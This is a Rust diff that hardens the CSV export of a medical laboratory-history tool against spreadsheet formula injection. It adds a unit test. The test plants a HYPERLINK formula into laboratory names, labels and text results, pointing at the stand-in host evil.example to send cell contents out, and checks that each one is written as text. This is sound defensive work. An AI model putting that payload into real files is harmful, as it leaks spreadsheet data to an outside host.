@@ -1,6 +1,8 @@
 //! Exports of a normalised history, from the same data the screen shows.
 //!
-//! - [`csv`]: one line per result (per source), RFC 4180, UTF-8, for spreadsheets and audits.
+//! - [`csv`]: one line per result (per source), RFC 4180, UTF-8, for spreadsheets and audits;
+//!   a cell a spreadsheet would run as a formula is written as text (`'=…`), plain numbers as
+//!   they are.
 //! - [`fhir_bundle`]: a FHIR R4 `Bundle` (type `collection`) of laboratory `Observation`s.
 
 use serde_json::{Value as Json, json};
@@ -8,8 +10,28 @@ use serde_json::{Value as Json, json};
 use crate::cda::oid;
 use crate::normalise::{History, Point, PointStatus};
 
+/// Whether a cell is a plain decimal number (`-2.5`, `+3`, `12`): data a spreadsheet reads as a
+/// number, never as a formula, so it is written as it is (a base excess of `-2.5` stays a number).
+fn is_plain_number(value: &str) -> bool {
+    let digits = value.strip_prefix(['-', '+']).unwrap_or(value);
+    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
+    !int.is_empty() && !frac.is_empty() && int.bytes().all(|b| b.is_ascii_digit()) && frac.bytes().all(|b| b.is_ascii_digit())
+}
+
+/// Whether a spreadsheet would run this cell as a formula (OWASP "CSV injection"): it begins
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return, and is not a plain number. Laboratory
+/// names, labels and text results come from the documents, that is from outside.
+fn is_formula_like(value: &str) -> bool {
+    value.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(value)
+}
+
 fn field(out: &mut String, value: &str) {
-    if value.contains([',', '"', '\n', '\r']) {
+    if is_formula_like(value) {
+        // OWASP's rule: a leading single quote makes the cell text, and the cell is quoted.
+        out.push_str("\"'");
+        out.push_str(&value.replace('"', "\"\""));
+        out.push('"');
+    } else if value.contains([',', '"', '\n', '\r']) {
         out.push('"');
         out.push_str(&value.replace('"', "\"\""));
         out.push('"');
@@ -231,6 +253,57 @@ mod tests {
         assert!(crp.contains(",<=,1.0,") && crp.contains(",mg/L,"), "{crp}");
         let tsh: Vec<_> = lines.iter().filter(|l| l.starts_with("tsh,")).collect();
         assert_eq!(tsh.len(), 2);
+    }
+
+    #[test]
+    fn csv_injection_a_hyperlink_formula_from_a_document_is_written_as_text() {
+        use crate::cda::model::{Code, Quantity, Value};
+        const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
+        let mut report = crate::demo::generate(1, 1, 7, 20_000).remove(0).report;
+        report.header.laboratory.as_mut().expect("a laboratory").name = Some(FORMULA.to_string());
+        // A measured value below zero (a base excess, say) is data, not a formula.
+        let negative = report.observations.iter().position(|o| matches!(o.value, Some(Value::Quantity(_)))).expect("a quantity");
+        if let Some(Value::Quantity(q)) = &mut report.observations[negative].value {
+            *q = Quantity { value: crate::cda::model::Decimal::parse("-2.5").unwrap(), unit: q.unit.clone() };
+        }
+        // A text result, and the label of a result mapped to no analyte, both formulas.
+        let mut text = report.observations[negative].clone();
+        text.code = Code { code: Some("X-LOCAL-1".into()), system: Some("1.2.250.1.2.3.4".into()), display: Some(format!("@SUM(1+1){FORMULA}")), ..Code::default() };
+        text.value = Some(Value::Text { text: format!("+{FORMULA}") });
+        text.index = report.observations.len();
+        text.previous_of = None;
+        report.observations.push(text);
+        let written = crate::cda::writer::write_cr_bio(&report);
+        let parsed = crate::cda::parse(written.as_bytes()).expect("the generated document reads back");
+        let catalogue = Catalogue::embedded();
+        let transcoding = Transcoding::from_tsv(EMBEDDED_TRANSCODING, &catalogue).unwrap();
+        let history = normalise(&[InputDocument { id: "d0".into(), report: Ok(&parsed) }], &catalogue, &transcoding, &Options::default());
+        let out = csv(&history);
+        // Every cell: none a spreadsheet would run.
+        let mut cells = Vec::new();
+        for line in out.split("\r\n").filter(|l| !l.is_empty()) {
+            let (mut cell, mut quoted, mut chars) = (String::new(), false, line.chars().peekable());
+            while let Some(c) = chars.next() {
+                match c {
+                    '"' if quoted && chars.peek() == Some(&'"') => {
+                        chars.next();
+                        cell.push('"');
+                    }
+                    '"' => quoted = !quoted,
+                    ',' if !quoted => cells.push(std::mem::take(&mut cell)),
+                    c => cell.push(c),
+                }
+            }
+            cells.push(cell);
+        }
+        for cell in &cells {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || is_plain_number(cell), "a formula cell: {cell}");
+        }
+        assert!(cells.iter().any(|c| c == &format!("'{FORMULA}")), "the laboratory kept, as text: {out}");
+        assert!(cells.iter().any(|c| c == &format!("'+{FORMULA}")), "the text result kept, as text");
+        assert!(cells.iter().any(|c| c.starts_with("'@SUM(1+1)")), "the label kept, as text");
+        assert!(out.contains(",-2.5,"), "a negative number stays a number");
+        assert!(!is_formula_like("-2.5") && !is_formula_like("+3") && is_formula_like("-2+3") && is_formula_like("-") && is_formula_like("\tx"));
     }
 }
 
